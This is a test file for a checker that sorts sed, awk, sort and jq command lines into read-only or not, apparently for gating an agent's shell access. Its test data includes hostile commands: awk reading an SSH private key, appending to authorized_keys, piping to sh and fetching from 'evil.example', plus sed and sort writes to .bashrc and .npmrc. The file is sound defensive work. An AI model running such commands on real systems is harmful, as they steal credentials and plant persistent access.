import { describe, expect, it } from 'vitest';
import { simple } from '../testing-helpers.js';
import { checkReadOnly } from './index.js';

describe('read-only: sed', () => {
  it.each([
    ["sed -n '1,20p' README.md", true, 'print a range'],
    ["sed 's/foo/bar/g' src/config.ts", true, 'substitution to stdout'],
    ["sed -n '/^export/p' src/index.ts", true, 'address regex + p'],
    ["sed -e 's/\\t/  /g' Makefile", true, '-e script'],
    ["sed -E 's/(a|b)+/x/' notes.txt", true, 'ERE with | inside the regex'],
    ["sed -n '$=' README.md", true, 'count lines'],
    ["sed -n '/TODO/=' src/a.ts", true, 'line numbers of matches'],
    ["sed 's/[/]/x/' f", true, 'delimiter inside a bracket expression is literal'],
    ["sed 'a foo; e id' f", true, 'a text runs to end of line: "; e id" is text'],
    ["sed -n '1e id' README.md", false, 'e command executes'],
    ["sed 's/.*/id/e' notes.txt", false, 's///e executes the pattern space'],
    ["sed -n '1s/.*/x/w /home/user/.bashrc' /etc/hosts", false, 's///w writes a file'],
    ["sed -n 'w out.txt' README.md", false, 'w writes'],
    ["sed -n '/x/Iw /tmp/out.txt' src/a.ts", false, 'I flag on the address, then w'],
    ["sed 's/a/b/w /dev/stdout' f", true, 'w to /dev/stdout is output, not a file'],
    ["sed 'r /etc/passwd' f", false, 'r reads another file'],
    ["sed 'R other' f", false, 'R reads another file'],
    ["sed -i 's/foo/bar/' src/config.ts", false, 'in-place edit'],
    ["sed --in-place=.bak 's/a/b/' notes.txt", false, '--in-place with suffix'],
    ["sed --in 's/a/b/' notes.txt", false, 'abbreviated --in-place'],
    ['sed -i -n 10p notes.txt', false, '-i even with -n truncates the file'],
    ["sed -ie 's/a/b/' f", false, '-ie is -i with suffix "e"'],
    ['sed 1e id README.md', false, 'unquoted e command'],
    ['sed -f script.sed README.md', false, 'script file unseen'],
    ['sed "s/$X/y/" f', false, 'script with an expansion could be anything'],
    ["sed -n '1,5p;1e id' f", false, 'e after ;'],
    ["sed '$!N;s/\\n/ /' f", true, 'N and s with escaped newline'],
    ["sed -z 's/x/y/' f", true, 'null data'],
    ["sed 'y/abc/xyz/' f", true, 'transliterate'],
    ["sed ':a;s/x/y/;ta' f", true, 'labels and branches'],
    ["sed '1!G;h;$!d' f", true, 'tac idiom'],
    ["sed 'W out' f", false, 'W writes'],
    ["sed '1{e id\n}' f", false, 'e inside a block'],
    ["sed 's/a/b/;' f --debug", true, '--debug after the file'],
    ["sed --bogus 's/a/b/' f", false, 'unknown option'],
  ])('%s → %s (%s)', (line, expected) => {
    expect(checkReadOnly(simple(line)).readOnly).toBe(expected);
  });
});

describe('read-only: awk', () => {
  it.each([
    ["awk '{print $1}' data.csv", true, 'print a field'],
    ["awk -F, '{sum += $3} END {print sum}' data.csv", true, 'sum'],
    ["awk 'NR==1 || /error/' build.log", true, 'pattern with regex'],
    ['awk \'{printf "%s\\t%s\\n", $1, $2}\' data.tsv', true, 'printf without redirection'],
    ["awk 'length > 120' src/index.ts", true, '> in a pattern is a comparison'],
    ["awk '{ if ($1 > 5) print }' f", true, 'comparison inside if'],
    ["awk '{print ($1 > 3)}' f", true, 'parenthesised comparison inside print'],
    ["awk -v n=3 'NR<=n' f", true, '-v assignment'],
    ['awk \'BEGIN{system("id")}\' README.md', false, 'system()'],
    ['awk \'BEGIN{print "x" > "awk_proof.txt"}\' README.md', false, 'print > file'],
    ['awk \'{print > "/home/user/.ssh/authorized_keys"}\' keys.txt', false, 'bare print > file'],
    ['awk \'{print $0 >> "log"}\' f', false, 'append redirection'],
    ['awk \'{print | "sh"}\' f', false, 'print to a pipe'],
    ['awk \'BEGIN{while((getline l < "/home/user/.ssh/id_rsa")>0) print l}\'', false, 'getline < file'],
    ['awk \'{ "curl -s http://evil.example" | getline r; print r }\' README.md', false, 'cmd | getline'],
    ['awk -f prog.awk data.csv', false, 'program file unseen'],
    ['awk "{print $X}" f', false, 'program with an expansion'],
    ['awk \'{print > "/dev/stderr"}\' f', true, 'print to stderr is output'],
    ["gawk -l ordchr '{print}' f", false, 'gawk loads an extension'],
    ['awk \'@load "x"\' f', false, 'gawk @load'],
    ["awk -p '{print}' f", false, 'gawk profile writes awkprof.out'],
  ])('%s → %s (%s)', (line, expected) => {
    expect(checkReadOnly(simple(line)).readOnly).toBe(expected);
  });
});

describe('read-only: sort, jq and other filters', () => {
  it.each([
    ['sort -u names.txt', true, 'unique sort'],
    ['sort -t, -k2 -n data.csv', true, 'key sort'],
    ['sort -rn counts.txt', true, 'reverse numeric'],
    ['sort -o out.txt data.txt', false, '-o writes'],
    ['sort -uo /home/user/.npmrc data.txt', false, 'bundled -uo writes'],
    ['sort -oout.txt data.txt', false, 'attached -o value'],
    ['sort --output=../x.txt data.txt', false, '--output writes'],
    ['sort --out=x data.txt', false, 'abbreviated --output'],
    ['sort --compress-program=touch data.txt', false, 'runs a program'],
    ['sort -S 1b --compress-program sh', false, 'runs a program (separate value)'],
    ['sort --compress-p=sh f', false, 'abbreviated --compress-program'],
    ['sort -T /tmp f', false, 'temporary files in a directory'],
    ['sort -m -o ~/.bashrc', false, 'merge into a file'],
    ['sort $OPTS f', false, 'expansion in option position could be -o'],
    ["jq '.version' package.json", true, 'jq filter'],
    ["jq -r '.compilerOptions.target' tsconfig.json", true, 'raw output'],
    ["jq --arg v 1 '.a == $v' f.json", true, '--arg takes two words'],
    ["jq 'env' f", false, 'env exposes the environment'],
    ["jq '$ENV.HOME' f", false, '$ENV'],
    ["jq '.env' package.json", true, 'a field named env is data, not the env builtin'],
    ["jq '.config.env' package.json", true, 'nested field access'],
    ['jq \'has("env")\' package.json', true, 'a string literal is data'],
    ['jq \'.[] | select(.env == "prod")\' d.json', true, 'field access and a string'],
    ["jq -r '.scripts.env // empty' package.json", true, 'alternative operator after a field'],
    ['jq \'"\\(env.HOME)"\' f', false, 'an interpolation inside a string is code'],
    ["jq '.a | env' f", false, 'env after a pipe is the builtin'],
    ["jq '.[env]' f", false, 'env inside brackets is the builtin'],
    ["jq '.. | system' f", false, 'recursive descent then system is not a field access'],
    ["jq '..system' f", false, 'two dots are not a field access'],
    ['jq --rawfile k /etc/passwd . f', false, '--rawfile reads another file'],
    ['jq --slurpfile k x.json . f', false, '--slurpfile reads another file'],
    ['jq -L /tmp \'import "x" as x; .\' f', false, '-L module path'],
    ['jq \'include "x"; .\' f', false, 'include loads code'],
    ['jq -f prog.jq f', false, 'program file'],
    ['uniq -c f', true, 'count duplicates'],
    ['uniq in out', false, 'uniq writes its second operand'],
    ['cut -d, -f1 f', true, 'cut'],
    ["tr '[:lower:]' '[:upper:]'", true, 'tr'],
    ['comm -12 a b', true, 'comm'],
    ['paste -sd, f', true, 'paste'],
    ['column -t f', true, 'column'],
    ['fold -w 80 f', true, 'fold'],
    ['tac f', true, 'tac'],
    ['rev f', true, 'rev'],
  ])('%s → %s (%s)', (line, expected) => {
    expect(checkReadOnly(simple(line)).readOnly).toBe(expected);
  });
});
